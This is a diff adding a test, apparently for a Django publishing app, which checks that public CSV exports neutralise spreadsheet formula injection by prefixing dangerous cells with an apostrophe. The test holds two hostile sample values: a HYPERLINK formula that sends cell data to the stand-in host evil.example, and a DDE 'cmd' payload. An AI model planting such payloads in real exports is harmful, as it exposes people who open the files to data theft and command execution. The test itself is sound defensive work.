@@ -951,3 +951,40 @@ def test_sector_staff_see_the_directory_named_apart_from_their_sector_overview(c
     staff = client.get(reverse("publications:accessibility")).content.decode()
     assert '<a class="nav-link" href="/directory/">Public directory</a>' in staff
     assert '<a class="nav-link" href="/signatories/">Signatories</a>' in staff
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Details")'
+AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_open_data_csv_cells_never_start_a_formula(client, aldermoor, plan, lead_of_org_a):
+    """Issue 11, item 2: the public's spreadsheet must not run what an organisation typed."""
+    Organisation.objects.filter(pk=aldermoor.pk).update(
+        name=FORMULA, short_name=AT_FORMULA, contact_name="+44 1234", webpage="-1"
+    )
+    plan.actions.filter(title="Count technicians in every department").update(
+        title=FORMULA, description=AT_FORMULA, success_criteria="-1+1", comment="+1+1"
+    )
+    publication = services.publish_plan(plan, by=lead_of_org_a)
+    plan_csv = reverse("publications:plan_csv", kwargs={"slug": "aldermoor", "pk": publication.pk})
+
+    signatories = list(
+        csv.DictReader(io.StringIO(fetch(client, reverse("publications:signatories_csv"))[1]))
+    )
+    actions = list(csv.DictReader(io.StringIO(fetch(client, plan_csv)[1])))
+
+    cells = [value for row in signatories + actions for value in row.values()]
+    assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
+    aldermoor_row = next(row for row in signatories if row["slug"] == "aldermoor")
+    assert [aldermoor_row[k] for k in ("name", "short_name", "contact_name", "webpage")] == [
+        "'" + FORMULA,
+        "'" + AT_FORMULA,
+        "'+44 1234",
+        "'-1",
+    ]
+    counted = next(row for row in actions if row["action"] == "'" + FORMULA)
+    assert [counted[k] for k in ("description", "success_criteria", "comment")] == [
+        "'" + AT_FORMULA,
+        "'-1+1",
+        "'+1+1",
+    ]
